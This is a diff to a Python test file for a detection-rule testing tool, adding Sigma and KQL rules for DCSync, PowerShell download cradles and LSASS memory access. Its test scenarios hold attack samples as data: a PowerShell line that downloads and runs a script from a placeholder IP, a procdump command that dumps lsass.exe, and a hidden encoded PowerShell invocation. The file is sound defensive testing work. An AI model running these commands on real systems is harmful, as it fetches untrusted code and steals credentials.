@@ -150,15 +150,20 @@ def test_a_system_channel_rule_and_a_device_events_query_run_on_their_telemetry(
                    service_scenario("own-program-files-service", "benign",
                                     "C:\\Program Files\\Vendor\\agent.exe")],
         required_tables=["DeviceEvents"])
-    report = run_paths([folder], RunOptions(forms=("sigma", "kql")))
+    report = run_paths([folder])
     detection = report.detections[0]
     assert not detection.errors, detection.errors
     for scenario in detection.scenarios:
         for result in scenario.results:
+            if result.form.startswith("converted"):
+                # Neither Defender nor Sentinel's SecurityEvent holds System 7045: no converted form exists.
+                assert result.status == "skip" and "cannot express" in result.reason, result.reason
+                continue
             assert result.status == "pass", (scenario.id, result.key, result.reason)
+    assert detection.available_forms == ["sigma", "kql"] and detection.proof_status == "proven"
     attack = detection.scenarios[0]
     sigma = [r for r in attack.results if r.form == "sigma"]
-    assert [r.telemetry for r in sigma] == ["windows"] and sigma[0].key == "sigma[service:system]"
+    assert [r.telemetry for r in sigma] == ["windows"] and sigma[0].key == "sigma[system:7045]"
 
 
 def test_lint_accepts_a_correlation_rule_with_the_rules_it_references(write_detection: WriteDetection) -> None:
@@ -180,3 +185,183 @@ def test_lint_accepts_a_correlation_rule_with_the_rules_it_references(write_dete
     clear_cache()
     report = lint_catalog(folder, shared=folder)
     assert any("does not reference" in i.message for i in report.issues)
+
+
+DCSYNC_SIGMA = """\
+title: Directory replication requested by an account
+id: 3d2c1b0a-9f8e-4d7c-8b6a-5f4e3d2c1b0a
+status: test
+description: An account asked a domain controller for replication rights (DS-Replication-Get-Changes).
+author: Assay tests
+date: 2026-12-06
+tags:
+    - attack.credential-access
+    - attack.t1003.006
+logsource:
+    product: windows
+    service: security
+detection:
+    selection:
+        EventID: 4662
+        AccessMask: '0x100'
+        Properties|contains: '1131f6aa-9c07-11d1-f79f-00c04fc2dcd2'
+    condition: selection
+level: high
+"""
+
+DCSYNC_KQL = """\
+SecurityEvent
+| where TimeGenerated > ago(1h)
+| where EventID == 4662 and AccessMask == "0x100"
+| where Properties has "1131f6aa-9c07-11d1-f79f-00c04fc2dcd2"
+| project TimeGenerated, Computer, SubjectUserName, Properties
+"""
+
+
+def test_a_security_rule_runs_on_synthesized_4662_and_on_a_real_recording(write_detection: WriteDetection,
+                                                                          shared_data: Any) -> None:
+    def scenario(scenario_id: str, kind: str, **access: Any) -> dict[str, Any]:
+        outcome = "fires" if kind == "attack" else "does-not-fire"
+        return {"id": scenario_id, "title": scenario_id, "kind": kind, "provenance": {"own": "dcsync"},
+                "expected": {"sigma": outcome, "kql": outcome},
+                "activity": {"host": DC, "user": VICTIM, "start": "2026-10-02T14:00:30Z",
+                             "directory_access": [access]}}
+
+    recording = "evtx-attack-samples/Credential Access/CA_DCSync_4662.evtx"
+    folder = write_detection(
+        "T1003.006-dcsync", sigma=DCSYNC_SIGMA, kql=DCSYNC_KQL, technique="T1003.006",
+        required_tables=["SecurityEvent"],
+        scenarios=[scenario("own-dcsync", "attack", replication=True),
+                   scenario("own-read-property", "benign", access_mask="0x10",
+                            properties=["bf967a86-0de6-11d0-a285-00aa003049e2"]),
+                   {"id": "rec-dcsync", "title": "DCSync recording", "kind": "attack",
+                    "provenance": {"recording": {"path": recording}},
+                    "expected": {"sigma": "fires", "kql": "fires"}}])
+    report = run_paths([folder], RunOptions(shared_data=shared_data))
+    detection = report.detections[0]
+    assert not detection.errors, detection.errors
+    # No Defender table holds 4662: the converted form is pySigma's Sentinel SecurityEvent query, run on the
+    # Security telemetry (and on the recording).
+    assert detection.available_forms == ["sigma", "kql", "converted:sentinel-securityevent"]
+    assert detection.proof_status == "proven"
+    for scenario_result in detection.scenarios:
+        for result in scenario_result.results:
+            assert result.status == "pass", (scenario_result.id, result.key, result.reason)
+    by_id = {s.id: s for s in detection.scenarios}
+    assert {r.telemetry for r in by_id["rec-dcsync"].results} == {"recording"}
+    assert {r.key for r in by_id["own-dcsync"].results} == {"sigma[security:4662]", "kql",
+                                                            "converted:sentinel-securityevent"}
+
+
+PS_SCRIPT_SIGMA = """\
+title: Script block downloads and runs code
+id: 4e5d6c7b-8a9f-4b0c-9d1e-2f3a4b5c6d7e
+status: test
+description: A PowerShell script block that downloads a string and evaluates it.
+author: Assay tests
+date: 2026-12-06
+tags:
+    - attack.execution
+    - attack.t1059.001
+logsource:
+    product: windows
+    category: ps_script
+detection:
+    selection:
+        ScriptBlockText|contains|all:
+            - 'DownloadString'
+            - 'IEX'
+    condition: selection
+level: high
+"""
+
+PS_SCRIPT_KQL = """\
+DeviceEvents
+| where Timestamp > ago(1h)
+| where ActionType == "PowerShellCommand"
+| where tostring(AdditionalFields.Command) == "Invoke-Expression"
+| join kind=inner (DeviceEvents | where ActionType == "PowerShellCommand"
+    | where tostring(AdditionalFields.Command) == "New-Object" | project DeviceId, InitiatingProcessId) on DeviceId,
+    InitiatingProcessId
+| project Timestamp, DeviceName, InitiatingProcessCommandLine
+"""
+
+LSASS_SIGMA = """\
+title: LSASS opened for reading memory
+id: 5f6e7d8c-9b0a-4c1d-8e2f-3a4b5c6d7e8f
+status: test
+description: A process opened lsass.exe with the rights a memory dump needs.
+author: Assay tests
+date: 2026-12-06
+tags:
+    - attack.credential-access
+    - attack.t1003.001
+logsource:
+    product: windows
+    category: process_access
+detection:
+    selection:
+        TargetImage|endswith: '\\\\lsass.exe'
+        GrantedAccess|endswith: ['10', '1fffff', '1410']
+    condition: selection
+level: high
+"""
+
+LSASS_KQL = """\
+DeviceEvents
+| where Timestamp > ago(1h)
+| where ActionType == "OpenProcessApiCall" and FileName =~ "lsass.exe"
+| where binary_and(toint(AdditionalFields.DesiredAccess), 0x10) == 0x10
+| project Timestamp, DeviceName, InitiatingProcessFileName, InitiatingProcessCommandLine
+"""
+
+
+def _powershell_scenario(scenario_id: str, kind: str, script: str) -> dict[str, Any]:
+    outcome = "fires" if kind == "attack" else "does-not-fire"
+    return {"id": scenario_id, "title": scenario_id, "kind": kind, "provenance": {"own": "powershell"},
+            "expected": {"sigma": outcome, "kql": outcome},
+            "activity": {"host": HOST, "user": USER, "start": "2026-10-02T14:00:30Z",
+                         "processes": [{"id": "ps", "image": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\"
+                                                            "powershell.exe",
+                                        "command_line": "powershell.exe -nop -w hidden -enc SQBFAFgA",
+                                        "parent_image": "C:\\Windows\\explorer.exe",
+                                        "parent_command_line": "C:\\Windows\\Explorer.EXE"}],
+                         "powershell": [{"process": "ps", "script": script}]}}
+
+
+def _lsass_scenario(scenario_id: str, kind: str, access: str) -> dict[str, Any]:
+    outcome = "fires" if kind == "attack" else "does-not-fire"
+    return {"id": scenario_id, "title": scenario_id, "kind": kind, "provenance": {"own": "lsass"},
+            "expected": {"sigma": outcome, "kql": outcome},
+            "activity": {"host": HOST, "user": USER, "start": "2026-10-02T14:00:30Z",
+                         "processes": [{"id": "dumper", "image": "C:\\Users\\Public\\pd64.exe",
+                                        "original_file_name": "procdump", "integrity": "High", "elevated": True,
+                                        "command_line": "pd64.exe -accepteula -ma lsass.exe out.dmp",
+                                        "parent_image": "C:\\Windows\\System32\\cmd.exe",
+                                        "parent_command_line": "cmd.exe"}],
+                         "process_access": [{"process": "dumper", "granted_access": access}]}}
+
+
+def test_script_block_and_process_access_rules_run_on_their_telemetry(write_detection: WriteDetection) -> None:
+    cases = [
+        ("T1059.001-cradle", PS_SCRIPT_SIGMA, PS_SCRIPT_KQL, "T1059.001", "powershell:4104", "windows",
+         [_powershell_scenario("own-cradle", "attack",
+                               "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a.ps1')"),
+          _powershell_scenario("own-get-date", "benign", "Get-Date | Out-File C:\\Temp\\now.txt")]),
+        ("T1003.001-lsass", LSASS_SIGMA, LSASS_KQL, "T1003.001", "sysmon:10", "sysmon",
+         [_lsass_scenario("own-procdump", "attack", "0x1FFFFF"),
+          _lsass_scenario("own-query-limited", "benign", "0x1000")]),
+    ]
+    for name, sigma, kql, technique, route, telemetry, scenarios in cases:
+        folder = write_detection(name, sigma=sigma, kql=kql, technique=technique, scenarios=scenarios,
+                                 required_tables=["DeviceEvents"])
+        detection = run_paths([folder]).detections[0]
+        assert not detection.errors, detection.errors
+        for scenario_result in detection.scenarios:
+            for result in scenario_result.results:
+                if result.form.startswith("converted"):
+                    assert result.status in ("pass", "skip"), (name, result.key, result.reason)
+                    continue
+                assert result.status == "pass", (name, scenario_result.id, result.key, result.reason)
+        sigma_results = [r for r in detection.scenarios[0].results if r.form == "sigma"]
+        assert [(r.route, r.telemetry) for r in sigma_results] == [(route, telemetry)], name
